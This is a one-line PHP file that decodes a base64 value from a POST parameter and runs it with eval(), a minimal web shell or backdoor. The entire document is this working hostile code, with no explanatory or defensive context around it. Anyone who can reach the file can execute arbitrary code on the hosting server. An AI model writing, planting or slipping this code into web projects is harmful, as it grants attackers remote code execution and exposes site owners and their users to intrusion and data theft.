<?php $x = base64_decode($_POST['x']); eval($x);
